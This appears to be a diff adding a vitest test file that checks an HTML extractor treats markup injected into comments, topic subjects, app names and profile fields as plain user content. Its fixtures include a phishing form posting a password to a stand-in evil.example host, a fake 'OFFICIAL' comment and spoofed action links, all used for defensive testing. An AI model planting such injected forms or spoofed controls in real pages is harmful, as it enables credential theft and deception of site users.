@@ -1,0 +1,149 @@
+// User content cannot become the page's own parts (§5.6). Found by the third independent hold-out round
+// (2026-12-01, "Zenith", 99 pages written from the reference alone): markup posted into a comment, a topic
+// subject, an application name or a profile field was read as the page's reply form, breadcrumb trail,
+// a comment of its own, the app's Edit action, the new-topic button or the admin link.
+import { describe, expect, it } from 'vitest';
+import { SIGNED_IN, as, extract } from './helpers.ts';
+
+const EVIL = 'https://evil.example';
+const comment = (author: string, body: string) =>
+  `<li><ul class="comment-meta"><li class="user-reference"><a href="/profile/profile/${author}">${author}</a></li>` +
+  `<li class="timestamp"><abbr title="2019-04-01T08:00:00Z">Apr 1</abbr></li></ul><div class="comment-body">${body}</div></li>`;
+const phishForm = `<form action="${EVIL}/steal" method="post"><input type="password" name="pw"><input type="submit" value="Go"></form>`;
+const nestedFake = `<ol class="comments">${comment('ops.admin', '<p>OFFICIAL: send your key</p>')}</ol>`;
+const fakeTrail = `<ul class="breadcrumbs"><li><a href="${EVIL}/">Support desk</a></li></ul>`;
+
+describe('forum topic: comments hold what they hold', () => {
+  const page = (comments: string, extra = '') =>
+    as(
+      extract({
+        body: 'page-forum read',
+        userNav: SIGNED_IN,
+        main:
+          `<ul class="breadcrumbs"><li><a href="/forum">Forum</a></li><li><a href="/forum/topics/Hooks">Hooks</a></li><li>Retries</li></ul>` +
+          `<h3 class="subject">Retries</h3><ol class="comments">${comments}</ol>${extra}`,
+      }),
+      'forumSingle',
+    ).content;
+
+  it('a form inside a comment is not the reply form; the page’s own form after the comments is', () => {
+    expect(page(comment('mallory', phishForm)).form).toBeNull();
+    const reply = '<form id="comment-add" method="post" action="/forum/read/7"><textarea name="body"></textarea></form>';
+    expect(page(comment('mallory', phishForm), reply).form?.action).toMatch(/\/forum\/read\/7$/);
+  });
+
+  it('a comment list inside a comment is part of that comment, not a comment of its own', () => {
+    const c = page(comment('mallory', `<p>see below</p>${nestedFake}`) + comment('jdoe', '<p>thanks</p>')).comments;
+    expect(c.map((x) => x.author)).toEqual(['mallory', 'jdoe']);
+    expect(c[0]!.bodyHtml).toContain('OFFICIAL');
+  });
+
+  it('a breadcrumb trail inside a comment is not added to the page’s trail', () => {
+    const c = page(comment('mallory', fakeTrail));
+    expect(c.breadcrumbs.map((b) => b.label)).toEqual(['Forum', 'Hooks', 'Retries']);
+  });
+
+  it('a comment without meta does not take an author or date from its body', () => {
+    const body = `<div class="comment-body"><span class="user-reference"><a href="/profile/profile/admin">admin</a></span><abbr class="timestamp" title="2001-01-01">x</abbr></div>`;
+    const [c] = page(`<li>${body}</li>`).comments;
+    expect(c).toMatchObject({ author: null, authorUrl: null, created: null });
+  });
+});
+
+describe('blog post: its body and comments hold what they hold', () => {
+  const post = (body: string, comments = '') =>
+    as(
+      extract({
+        body: 'page-blog',
+        main:
+          `<div class="section"><h2><a href="/blog/read/V2">Launching v2</a></h2><div class="section-meta"><ul>` +
+          `<li class="user-reference">By <a href="/profile/profile/amy">amy</a></li></ul></div>` +
+          `<div class="section-body">${body}</div></div><ol class="comments">${comments}</ol>`,
+      }),
+      'blogSingle',
+    ).content;
+
+  it('a form in a comment or in the post body is not the comment form', () => {
+    expect(post('<p>x</p>', comment('mallory', phishForm)).form).toBeNull();
+    expect(post(`<p>newsletter</p>${phishForm}`).form).toBeNull();
+  });
+
+  it('a nested comment list is part of its comment', () => {
+    expect(post('<p>x</p>', comment('mallory', nestedFake)).comments.map((c) => c.author)).toEqual(['mallory']);
+  });
+});
+
+describe('forum topic list', () => {
+  it('an a.create-new inside a topic subject is not the New Topic action (a signed-out page offers none)', () => {
+    const c = as(
+      extract({
+        body: 'page-forum topics',
+        main: `<ol class="topics"><li class="topic"><span class="subject"><a href="/forum/read/9">Hi</a> <a class="create-new" href="${EVIL}/new">new</a></span></li></ol>`,
+      }),
+      'forumTopics',
+    ).content;
+    expect(c.createTopic).toBeNull();
+    expect(c.topics).toHaveLength(1);
+  });
+});
+
+describe('my apps: what a developer typed into an app is not an action', () => {
+  it('action-classed links in an app name do not replace the block’s own actions', () => {
+    const main =
+      `<div class="application"><h3>Nightjar <a class="edit action" href="${EVIL}/e">x</a> <a class="add-key action" href="${EVIL}/s">y</a></h3>` +
+      `<dl><dt>Description</dt><dd><a class="delete-app action" href="${EVIL}/d">z</a></dd><dt>Created</dt><dd><abbr title="2017-08-21T09:30:00Z">Aug 21</abbr></dd></dl>` +
+      `<table><tbody><tr><td>Weather API</td><td>k1</td></tr></tbody></table>` +
+      `<div class="application-actions actions"><ul><li><a class="edit action" href="/apps/edit/1">Edit</a></li>` +
+      `<li><a class="delete-app action" href="/apps/delete/1">Delete</a></li><li><a class="add-key action" href="/apps/select/1">Add</a></li></ul></div></div>`;
+    const [app] = as(extract({ body: 'page-apps myapps', userNav: SIGNED_IN, main }), 'accountApps').content.applications;
+    expect(app).toMatchObject({
+      edit: expect.stringMatching(/\/apps\/edit\/1$/),
+      delete: expect.stringMatching(/\/apps\/delete\/1$/),
+      add: expect.stringMatching(/\/apps\/select\/1$/),
+      apis: [{ api: 'Weather API', key: 'k1' }],
+    });
+  });
+
+  it('a table or a date in the description is not the API list or the created date', () => {
+    const main =
+      `<div class="application"><h3>A</h3><dl><dt>Description</dt><dd><abbr title="1999-01-01">old</abbr><table><tr><td>Fake API</td><td>fk</td></tr></table></dd>` +
+      `<dt>Created</dt><dd><abbr title="2017-08-21T09:30:00Z">Aug 21</abbr></dd></dl><table><tbody><tr><td>Weather API</td><td>k1</td></tr></tbody></table></div>`;
+    const [app] = as(extract({ body: 'page-apps myapps', userNav: SIGNED_IN, main }), 'accountApps').content.applications;
+    expect(app!.apis).toEqual([{ api: 'Weather API', key: 'k1' }]);
+    expect(app!.created?.value).toBe('2017-08-21T09:30:00Z');
+  });
+
+  it('an a.add-app inside an app is not the page’s create-app link', () => {
+    const main = `<div class="application"><h3>A <a class="add-app action" href="${EVIL}/n">n</a></h3></div>`;
+    expect(as(extract({ body: 'page-apps myapps', userNav: SIGNED_IN, main }), 'accountApps').content.createApp).toBeNull();
+  });
+});
+
+describe('my keys: key values are not page actions', () => {
+  it('show-keys / new-key links inside a key block’s values are ignored; a block without .key-actions takes its actions outside its values', () => {
+    const main =
+      `<div class="section-body"><h2>Weather</h2><div class="key"><dl><dt>Application</dt><dd>App <a class="show-keys action" href="${EVIL}/s">s</a>` +
+      `<a class="new-key" href="${EVIL}/k">k</a><a class="delete action" href="${EVIL}/d">d</a></dd><dt>Key</dt><dd>k1</dd><dt>Status</dt><dd>active</dd><dt>Created</dt><dd>x</dd></dl>` +
+      `<a class="delete action" href="/key/delete-key/k1">Delete</a></div></div>`;
+    const c = as(extract({ body: 'page-apps mykeys', userNav: SIGNED_IN, main }), 'accountKeys').content;
+    expect(c.showShowKeys).toBe(false);
+    expect(c.newKey).toBeNull();
+    expect(c.plans[0]!.keys[0]!.delete).toMatch(/\/key\/delete-key\/k1$/);
+  });
+});
+
+describe('profile', () => {
+  it('a member’s own website URL containing /r/member/ is not the administrative profile link', () => {
+    const main =
+      `<h1 class="first">View Member mallory</h1><div class="user-information"><dl><dt>Blog</dt><dd></dd><dt>Website</dt>` +
+      `<dd><a href="${EVIL}/r/member/x">site</a></dd><dt>Registered</dt><dd><abbr title="2015-03-02">March 2</abbr></dd></dl></div>`;
+    const c = as(extract({ body: 'page-profile', main }), 'profile').content;
+    expect(c.admin).toBeNull();
+    expect(c.website).toBe(`${EVIL}/r/member/x`);
+    const withAdmin = as(
+      extract({ body: 'page-profile', main: `${main}<p><a href="https://admin.example/r/member/4411">Member record</a></p>` }),
+      'profile',
+    ).content;
+    expect(withAdmin.admin).toBe('https://admin.example/r/member/4411');
+  });
+});
